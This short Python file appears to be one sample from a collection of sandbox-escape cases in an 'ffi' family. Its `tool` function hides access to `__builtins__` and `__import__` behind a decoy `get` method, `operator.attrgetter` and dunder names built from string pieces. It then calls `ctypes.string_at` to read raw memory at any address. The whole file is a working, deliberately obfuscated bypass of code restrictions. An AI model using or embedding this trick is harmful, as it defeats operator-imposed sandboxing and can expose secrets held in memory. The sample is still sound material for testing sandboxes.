# family: ffi
# Escape: any method called `get` gets its arguments treated as lookup operands; the tool's own get() returns
# its fallback, i.e. type(attrgetter): the attrgetter class. It reads tool.__builtins__ (run-time name) and
# __import__("ctypes").string_at reads raw memory.
import operator


class Defaults:
    def get(self, key, fallback=None):
        return fallback


def tool(address: int, size: int) -> bytes:
    Getter = Defaults().get("getter", type(operator.attrgetter("real")))
    edge = "_" * 2
    load = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]
    return load("ctypes").string_at(address, size)
